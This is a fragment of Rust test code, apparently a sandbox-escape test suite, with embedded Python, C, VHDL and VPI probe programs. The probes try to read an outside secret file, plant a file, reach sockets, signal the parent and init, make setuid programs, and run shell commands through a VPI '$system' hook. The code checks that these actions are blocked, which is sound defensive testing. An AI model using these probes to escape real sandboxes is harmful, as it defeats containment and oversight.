        arguments: &["a.py"],
        says: &["parent ESRCH", "still here"],
        achieves: Achieves::Words(&["parent reached"]),
        ..ROW
    },
    Attempt {
        name: "python: descriptors that were open",
        // Not closed on exec, and forgotten, as a careless program would.
        prepare: |_| std::mem::forget(rustix::io::dup(std::io::stdin()).unwrap()),
        program: PYTHON,
        arguments: &[
            "-c",
            "import fcntl\nfound = []\nfor n in range(1024):\n  try: fcntl.fcntl(n, fcntl.F_GETFD); found.append(n)\n  except OSError: pass\nprint(found)\n",
        ],
        says: &["[0, 1, 2]"],
        achieves: Achieves::Words(&["[0, 1, 2, "]),
        ..ROW
    },
    Attempt {
        name: "python: programs in memory and in scratch",
        files: &[("tree/a.py", EXECUTES_PY)],
        program: PYTHON,
        arguments: &["a.py"],
        says: &["memory EPERM", "copy EACCES", "map EPERM"],
        achieves: Achieves::Words(&["memory done", "copy done", "map done"]),
        ..ROW
    },
    Attempt {
        name: "python: programs with a set-user-ID bit",
        files: &[("tree/a.py", SET_USER_PY)],
        program: PYTHON,
        arguments: &["a.py"],
        says: &["plain done", "chmod EPERM", "fchmod EPERM", "open EPERM"],
        achieves: Achieves::Words(&["chmod done", "open done"]),
        ..ROW
    },
    Attempt {
        name: "python: devices, pipes and sockets with a name in scratch",
        files: &[("tree/a.py", NODES_PY)],
        program: PYTHON,
        arguments: &["a.py"],
        says: &["pipe EPERM", "device EPERM", "bind EPERM"],
        achieves: Achieves::Words(&["pipe done", "bind done"]),
        ..ROW
    },
];

const CONNECT_C: &str = r#"
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>
static void attempt(const char *name, int family, const void *address, unsigned length) {
  int s = socket(family, SOCK_STREAM, 0);
  if (s < 0 || connect(s, address, length) != 0) { printf("%s %s\n", name, strerror(errno)); return; }
  printf("%s connected\n", name);
}
int main(void) {
  struct sockaddr_in inet = {.sin_family = AF_INET, .sin_port = htons({PORT}), .sin_addr.s_addr = htonl(0x7f000001)};
  struct sockaddr_un local = {.sun_family = AF_UNIX, .sun_path = "{OUTSIDE}/socket"};
  attempt("inet", AF_INET, &inet, sizeof inet);
  attempt("unix", AF_UNIX, &local, sizeof local);
  printf("raw system call %ld\n", syscall(SYS_socket, AF_INET, SOCK_STREAM, 0));
  if (open("{OUTSIDE}/secret.h", O_RDONLY) < 0) printf("read %s\n", strerror(errno));
  return 0;
}
"#;

const FOREIGN_C: &str = r#"
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>
static void attempt(const char *name, int family, const void *address, unsigned length) {
  int s = socket(family, SOCK_STREAM, 0);
  if (s < 0 || connect(s, address, length) != 0) { printf("%s %s\n", name, strerror(errno)); return; }
  printf("%s connected\n", name);
}
int answer(int x) {
  struct sockaddr_in inet = {.sin_family = AF_INET, .sin_port = htons({PORT}), .sin_addr.s_addr = htonl(0x7f000001)};
  struct sockaddr_un local = {.sun_family = AF_UNIX, .sun_path = "{OUTSIDE}/socket"};
  attempt("inet", AF_INET, &inet, sizeof inet);
  attempt("unix", AF_UNIX, &local, sizeof local);
  printf("raw system call %ld\n", syscall(SYS_socket, AF_INET, SOCK_STREAM, 0));
  if (open("{OUTSIDE}/secret.h", O_RDONLY) < 0) printf("read %s\n", strerror(errno));
  fflush(stdout);
  return x + 1;
}
"#;

const FOREIGN_VHDL: &str = r#"
entity a is end;
architecture b of a is
  function answer(x : integer) return integer is begin return 0; end;
  attribute foreign : string;
  attribute foreign of answer : function is "VHPIDIRECT ./f.so answer";
begin
  process begin report "answered " & integer'image(answer(41)); wait; end process;
end;
"#;

const READ_VHDL: &str = r#"
use std.textio.all;
entity a is end;
architecture b of a is
begin
  process
    file f : text open read_mode is "{OUTSIDE}/secret.h";
    variable l : line;
  begin
    readline(f, l); report l.all; wait;
  end process;
end;
"#;

const WRITE_VHDL: &str = r#"
use std.textio.all;
entity a is end;
architecture b of a is
begin
  process
    file f : text open write_mode is "{OUTSIDE}/planted";
    variable l : line;
  begin
    write(l, string'("out")); writeline(f, l); wait;
  end process;
end;
"#;

const SYSTEM_VPI_C: &str = r#"
#include <stdlib.h>
#include <vpi_user.h>
static PLI_INT32 compile(PLI_BYTE8 *data) { (void)data; return 0; }
static PLI_INT32 call(PLI_BYTE8 *data) {
  (void)data;
  vpiHandle arguments = vpi_iterate(vpiArgument, vpi_handle(vpiSysTfCall, NULL));
  s_vpi_value value = {.format = vpiStringVal};
  vpi_get_value(vpi_scan(arguments), &value);
  system(value.value.str);
  return 0;
}
static void enter(void) {
  s_vpi_systf_data task = {.type = vpiSysTask, .tfname = "$system", .calltf = call, .compiletf = compile};
  vpi_register_systf(&task);
}
void (*vlog_startup_routines[])(void) = {enter, 0};
"#;

const SOCKETS_PY: &str = r"
import errno, socket
def attempt(name, body):
    try: body(); print(name, 'done')
    except OSError as error: print(name, errno.errorcode.get(error.errno, error.errno))
def to(family, kind, address):
    def body():
        s = socket.socket(family, kind); s.settimeout(2); s.connect(address)
    return body
S, D, R = socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW
attempt('tcp', to(socket.AF_INET, S, ('127.0.0.1', {PORT})))
attempt('tcp6', to(socket.AF_INET6, S, ('::1', {PORT})))
attempt('udp', to(socket.AF_INET, D, ('127.0.0.1', 53)))
attempt('udp6', to(socket.AF_INET6, D, ('::1', 53)))
attempt('icmp', lambda: socket.socket(socket.AF_INET, D, socket.IPPROTO_ICMP))
attempt('raw', lambda: socket.socket(socket.AF_INET, R, socket.IPPROTO_ICMP))
attempt('packet', lambda: socket.socket(socket.AF_PACKET, R))
attempt('netlink', lambda: socket.socket(socket.AF_NETLINK, R))
attempt('vsock', lambda: socket.socket(socket.AF_VSOCK, S))
attempt('alg', lambda: socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET))
attempt('unix path', to(socket.AF_UNIX, S, '{OUTSIDE}/socket'))
attempt('unix name', to(socket.AF_UNIX, S, '\0{ABSTRACT}'))
attempt('unix datagram', lambda: socket.socket(socket.AF_UNIX, D))
attempt('unix seqpacket', lambda: socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET))
attempt('pair', socket.socketpair)
";

const SYSCALLS_PY: &str = r"
import ctypes, errno
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
admitted = []
for name, number, *arguments in {SYSCALLS}:
    ctypes.set_errno(0)
    answer = libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) for a in arguments])
    if answer >= 0 or ctypes.get_errno() != errno.EPERM: admitted.append(name)
print('admitted:', admitted)
";

const SIGNALS_PY: &str = r"
import errno, os, signal
try: os.kill({PARENT}, 0); print('parent reached')
except OSError as error: print('parent', errno.errorcode[error.errno])
if os.getppid() == 1:
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM, signal.SIGCHLD):
        try: os.kill(1, number)
        except OSError as error: print('keeper', errno.errorcode[error.errno])
print('still here')
";

const EXECUTES_PY: &str = r"
import errno, mmap, os, shutil, subprocess
def attempt(name, body):
    try: body(); print(name, 'done')
    except OSError as error: print(name, errno.errorcode[error.errno])
attempt('memory', lambda: os.memfd_create('program'))
def copy():
    shutil.copy('/bin/true', '{SCRATCH}/true')
    subprocess.run(['{SCRATCH}/true'], check=True)
attempt('copy', copy)
def code():
    shutil.copyfile('/bin/true', '{SCRATCH}/code')
    with open('{SCRATCH}/code', 'rb') as file: mmap.mmap(file.fileno(), 0, prot=mmap.PROT_READ | mmap.PROT_EXEC, flags=mmap.MAP_PRIVATE)
attempt('map', code)
";

const SET_USER_PY: &str = r"
import ctypes, errno, os
def attempt(name, body):
    try: body(); print(name, 'done')
    except OSError as error: print(name, errno.errorcode[error.errno])
path = '{SCRATCH}/program'
attempt('plain', lambda: os.chmod(os.open(path, os.O_CREAT | os.O_WRONLY, 0o700) and path, 0o755))
attempt('chmod', lambda: os.chmod(path, 0o4755))
attempt('fchmod', lambda: os.fchmod(os.open(path, os.O_RDONLY), 0o2755))
attempt('open', lambda: os.open('{SCRATCH}/other', os.O_CREAT | os.O_WRONLY, 0o4755))
";

const NODES_PY: &str = r"
import ctypes, errno, os, socket, stat
def attempt(name, body):
    try: body(); print(name, 'done')
    except OSError as error: print(name, errno.errorcode[error.errno])
attempt('pipe', lambda: os.mkfifo('{SCRATCH}/pipe'))
attempt('device', lambda: os.mknod('{SCRATCH}/device', 0o600 | stat.S_IFCHR, os.makedev(1, 3)))
attempt('bind', lambda: socket.socket(socket.AF_UNIX).bind('{SCRATCH}/s'))
";
